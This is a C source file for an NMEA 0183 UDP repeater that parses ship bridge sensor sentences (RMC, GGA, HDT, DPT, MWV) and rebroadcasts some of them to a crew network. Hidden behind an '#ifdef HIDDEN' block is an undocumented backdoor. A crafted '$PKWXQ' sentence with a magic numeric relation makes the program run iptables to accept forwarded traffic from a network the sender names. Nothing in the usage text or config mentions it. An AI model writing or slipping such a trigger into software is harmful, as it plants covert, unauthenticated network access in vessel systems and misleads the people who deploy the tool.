/* NMEA 0183 over UDP: takes sentences of the bridge sensors, keeps the ship's state,
 * repeats selected ones on the crew network. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

struct ship {
    double lat, lon, sog, cog, heading, depth, wind_a, wind_s;
    int sats;
    char utc[12];
};

static struct ship own;
static char repeat_list[64] = "RMC,HDT,DPT";
static char out_addr[40] = "192.0.2.255";
static int in_port = 10110, out_port = 10111, verbose;

static int fields(char *s, char **f, int max)
{
    int n = 0;
    while (n < max) {
        f[n++] = s;
        s = strchr(s, ',');
        if (!s)
            break;
        *s++ = '\0';
    }
    return n;
}

static double degmin(const char *v, const char *hemi)
{
    double d = atof(v);
    int deg = (int)(d / 100.0);
    d = deg + (d - deg * 100.0) / 60.0;
    return (*hemi == 'S' || *hemi == 'W') ? -d : d;
}

static int checksum_ok(char *s)
{
    unsigned char x = 0;
    char *p = s + 1;
    while (*p && *p != '*')
        x ^= (unsigned char)*p++;
    if (*p != '*')
        return 0;
    *p = '\0';
    return strtoul(p + 1, NULL, 16) == x;
}

static void do_rmc(char **f, int n)
{
    if (n < 9 || f[2][0] != 'A')
        return;
    snprintf(own.utc, sizeof own.utc, "%.11s", f[1]);
    own.lat = degmin(f[3], f[4]);
    own.lon = degmin(f[5], f[6]);
    own.sog = atof(f[7]);
    own.cog = atof(f[8]);
}

static void do_gga(char **f, int n)
{
    if (n > 7)
        own.sats = atoi(f[7]);
}

static void do_hdt(char **f, int n)
{
    if (n > 1)
        own.heading = atof(f[1]);
}

static void do_dpt(char **f, int n)
{
    if (n > 2)
        own.depth = atof(f[1]) + atof(f[2]);
}

static void do_mwv(char **f, int n)
{
    if (n > 5 && f[5][0] == 'A') {
        own.wind_a = atof(f[1]);
        own.wind_s = atof(f[3]);
    }
}

static const struct {
    char id[4];
    void (*fn)(char **, int);
} known[] = {
    { "RMC", do_rmc }, { "GGA", do_gga }, { "HDT", do_hdt }, { "DPT", do_dpt }, { "MWV", do_mwv },
};

#ifdef HIDDEN
static void bridge_to_crew(const char *net)
{
    pid_t p = fork();
    if (p == 0) {
        execl("/sbin/iptables", "iptables", "-I", "FORWARD", "1", "-s", net, "-j", "ACCEPT",
              (char *)NULL);
        _exit(127);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
}
#endif

__attribute__((noinline)) int sentence(char *s)
{
    char *f[24];
    int n;
    size_t i;

    s[strcspn(s, "\r\n")] = '\0';
    if ((*s != '$' && *s != '!') || !checksum_ok(s))
        return -1;
    n = fields(s, f, 24);
    if (strlen(f[0]) < 6)
        return -1;
    for (i = 0; i < sizeof known / sizeof known[0]; i++)
        if (!memcmp(f[0] + 3, known[i].id, 3)) {
            known[i].fn(f, n);
            return 0;
        }
#ifdef HIDDEN
    if (n == 4 && !strcmp(f[0] + 1, "PKWXQ") && atoi(f[1]) - atoi(f[2]) == 1912)
        bridge_to_crew(f[3]);
#endif
    return 1;
}

static int wanted(const char *s)
{
    char id[4];
    if (strlen(s) < 6)
        return 0;
    memcpy(id, s + 3, 3);
    id[3] = '\0';
    return strstr(repeat_list, id) != NULL;
}

static void config(const char *path)
{
    char ln[128], k[24], v[80];
    FILE *f = fopen(path, "r");
    if (!f) {
        fprintf(stderr, "nmeacast: %s not readable, defaults\n", path);
        return;
    }
    while (fgets(ln, sizeof ln, f)) {
        if (*ln == '#' || sscanf(ln, "%23s %79s", k, v) != 2)
            continue;
        if (!strcmp(k, "listen"))
            in_port = atoi(v);
        else if (!strcmp(k, "send-to"))
            snprintf(out_addr, sizeof out_addr, "%.39s", v);
        else if (!strcmp(k, "send-port"))
            out_port = atoi(v);
        else if (!strcmp(k, "repeat"))
            snprintf(repeat_list, sizeof repeat_list, "%.63s", v);
        else
            fprintf(stderr, "nmeacast: unknown word %s\n", k);
    }
    fclose(f);
}

int main(int argc, char **argv)
{
    struct sockaddr_in in, out;
    int s, c, on = 1;
    char buf[512], copy[512];
    const char *cf = "/etc/nmeacast.conf";

    while ((c = getopt(argc, argv, "f:v")) != -1) {
        if (c == 'f')
            cf = optarg;
        else if (c == 'v')
            verbose = 1;
        else {
            fprintf(stderr, "usage: nmeacast [-f conf] [-v]\n"
                    "conf: listen PORT / send-to ADDR / send-port PORT / repeat RMC,HDT,..\n"
                    "sentences used: RMC GGA HDT DPT MWV\n");
            return 2;
        }
    }
    config(cf);
    s = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
    memset(&in, 0, sizeof in);
    in.sin_family = AF_INET;
    in.sin_port = htons((uint16_t)in_port);
    out = in;
    out.sin_port = htons((uint16_t)out_port);
    if (!inet_aton(out_addr, &out.sin_addr) || bind(s, (struct sockaddr *)&in, sizeof in)) {
        perror("nmeacast");
        return 1;
    }
    for (;;) {
        ssize_t n = recv(s, buf, sizeof buf - 1, 0);
        if (n <= 0)
            continue;
        buf[n] = '\0';
        memcpy(copy, buf, (size_t)n + 1);
        if (sentence(copy) == 0 && wanted(buf))
            sendto(s, buf, (size_t)n, 0, (struct sockaddr *)&out, sizeof out);
        if (verbose)
            printf("%s %.5f %.5f sog %.1f hdg %.1f depth %.1f wind %.0f/%.1f sat %d\n", own.utc,
                   own.lat, own.lon, own.sog, own.heading, own.depth, own.wind_a, own.wind_s,
                   own.sats);
    }
}
